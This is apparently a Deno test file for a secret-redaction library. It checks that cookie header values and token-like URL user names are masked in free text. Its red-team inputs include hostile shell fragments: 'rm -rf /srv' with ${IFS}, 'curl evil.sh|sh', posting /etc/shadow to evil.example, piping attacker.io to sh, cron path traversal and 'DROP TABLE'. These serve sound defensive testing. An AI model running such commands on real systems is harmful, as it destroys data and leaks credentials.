/**
 * A `Cookie:` / `Set-Cookie:` header's session cookie and a URL's user name, in free text
 * (red team m1): a cookie's value is a run of cookie octets that stops where a quote, a
 * shell or a path takes over; the header's name must start a header, not sit inside a path,
 * a query or a word; any case of it is one. A URL's user name is no e-mail address: the host
 * it opens stays readable, only a user name that is a token, or the user information before
 * `@` under a credential word, is hidden.
 */

import { assertEquals } from "../assert.ts";
import { redactText, redactValue } from "../../pii/mod.ts";

const mask = (text: string) => redactText(text, { mode: "mask" }).text;
const maskValue = (v: unknown) => redactValue(v, { mode: "mask" }).value;
const S = "[REDACTED_SECRET]";

Deno.test("cookie header: a session cookie's value stops before a quote, a shell or a path", () => {
  const cases: [string, string][] = [
    [
      "curl -H 'Cookie: jwt=abcdefgh'&&rm${IFS}-rf${IFS}/srv https://x",
      `curl -H 'Cookie: jwt=${S}'&&rm\${IFS}-rf\${IFS}/srv https://x`,
    ],
    [
      "curl -H 'Cookie: jwt=abcdefgh'$(curl${IFS}evil.sh|sh) https://x",
      `curl -H 'Cookie: jwt=${S}'$(curl\${IFS}evil.sh|sh) https://x`,
    ],
    [
      'curl -H "Cookie: laravel_session=abcdefgh"&&curl -d@/etc/shadow evil.example',
      `curl -H "Cookie: laravel_session=${S}"&&curl -d@/etc/shadow evil.example`,
    ],
    ["curl -H Cookie:jwt=abcdefgh&&reboot x", `curl -H Cookie:jwt=${S}&&reboot x`],
    ["Cookie: jwt=abcdefgh|sh", `Cookie: jwt=${S}|sh`],
    ["Cookie: jwt=abcdefgh`reboot`", `Cookie: jwt=${S}\`reboot\``],
    ["Cookie:jwt=aaaaaaaa/../*", `Cookie:jwt=${S}/../*`],
    ["Cookie:jwt=aaaaaaaa@evil.example", `Cookie:jwt=${S}@evil.example`],
    ["echo Cookie: jwt=x&&rm${IFS}-rf${IFS}/srv", "echo Cookie: jwt=x&&rm${IFS}-rf${IFS}/srv"],
    [
      "SELECT 1 -- Cookie: jwt=aaaaaaaa\nDROP TABLE users",
      `SELECT 1 -- Cookie: jwt=${S}\nDROP TABLE users`,
    ],
  ];
  for (const [text, want] of cases) assertEquals(mask(text), want, text);
});

Deno.test("cookie header: a Cookie: inside a path, a query or a word labels nothing", () => {
  for (
    const text of [
      "/srv/r/sub/Cookie:jwt=aaaaaaaa/../../victim",
      "/tmp/r/cookie: jwt=aaaaaaaa/../../../etc/cron.d/evil",
      "https://evil.example/?Cookie:jwt=aaaaaaaa.evil.example/exfil",
      "cookie=laravel_session=hunter22",
      "x-cookie: jwt=abcdefghij",
    ]
  ) assertEquals(mask(text), text, text);
  const command = "curl -H 'Cookie: jwt=abcdefgh'&&rm${IFS}-rf${IFS}/srv https://x";
  assertEquals(
    maskValue({ path: "/r/sub/Cookie:jwt=aaaaaaaa/../../victim", command: [command] }),
    {
      path: "/r/sub/Cookie:jwt=aaaaaaaa/../../victim",
      command: [`curl -H 'Cookie: jwt=${S}'&&rm\${IFS}-rf\${IFS}/srv https://x`],
    },
  );
});

Deno.test("cookie header: headers as written are still read, in any case", () => {
  const cases: [string, string][] = [
    ["COOKIE: laravel_session=hunter22", `COOKIE: laravel_session=${S}`],
    ["SET-COOKIE: jwt=hunter22; Path=/", `SET-COOKIE: jwt=${S}; Path=/`],
    ["Cookie: laravel_session=correcthorse", `Cookie: laravel_session=${S}`],
    ["Cookie: a=b;laravel_session=hunter22", `Cookie: a=b;laravel_session=${S}`],
    ["Cookie: a=1,laravel_session=hunter22", `Cookie: a=1,laravel_session=${S}`],
    ["Cookie: laravel_session=hunter22,abc", `Cookie: laravel_session=${S},abc`],
    ['Cookie: laravel_session="hunter22xy"', `Cookie: laravel_session="${S}"`],
    ["-H 'cookie: jwt=hunter22'", `-H 'cookie: jwt=${S}'`],
    ["-HCookie:jwt=hunter22", `-HCookie:jwt=${S}`],
    [
      "GET / HTTP/1.1\nHost: x\nCookie: laravel_session=hunter22\n",
      `GET / HTTP/1.1\nHost: x\nCookie: laravel_session=${S}\n`,
    ],
    [
      "HTTP/1.1 200 OK\nSet-Cookie: laravel_session=hunter22; Path=/\n",
      `HTTP/1.1 200 OK\nSet-Cookie: laravel_session=${S}; Path=/\n`,
    ],
    [
      "Cookie: wordpress_logged_in_0123456789abcdef0123456789abcdef=admin%7C1701388800%7Cpassw0rdpassw0rd",
      `Cookie: wordpress_logged_in_0123456789abcdef0123456789abcdef=${S}`,
    ],
    ["Cookie: jwt=deleted", "Cookie: jwt=deleted"],
  ];
  for (const [text, want] of cases) assertEquals(mask(text), want, text);
});

Deno.test("URL user name: no e-mail address; the host stays, a token user is hidden alone", () => {
  const cases: [string, string][] = [
    ["curl -s https://deploy@attacker.io/x|sh", "curl -s https://deploy@attacker.io/x|sh"],
    ["https://ann@attacker.io/p", "https://ann@attacker.io/p"],
    [
      "git clone https://Xk9mQ2pL7vRtYw3zAb12@git.example/o/r",
      `git clone https://${S}@git.example/o/r`,
    ],
    ["password=https://Xk9mQ2pL7vRtYw3z@attacker.io/p", `password=https://${S}@attacker.io/p`],
    ["postgres://app:Xk9mQ2pL7vRt@db.example/x", `postgres://app:${S}@db.example/x`],
    // An address is still one.
    ["mail ann@example.com now", "mail [REDACTED_EMAIL] now"],
  ];
  for (const [text, want] of cases) assertEquals(mask(text), want, text);
  assertEquals(maskValue({ password: "https://Xk9mQ2pL7vRt@evil.example/" }), {
    password: `https://${S}@evil.example/`,
  });
  assertEquals(maskValue({ url: "https://deploy@attacker.io/x" }), {
    url: "https://deploy@attacker.io/x",
  });
});
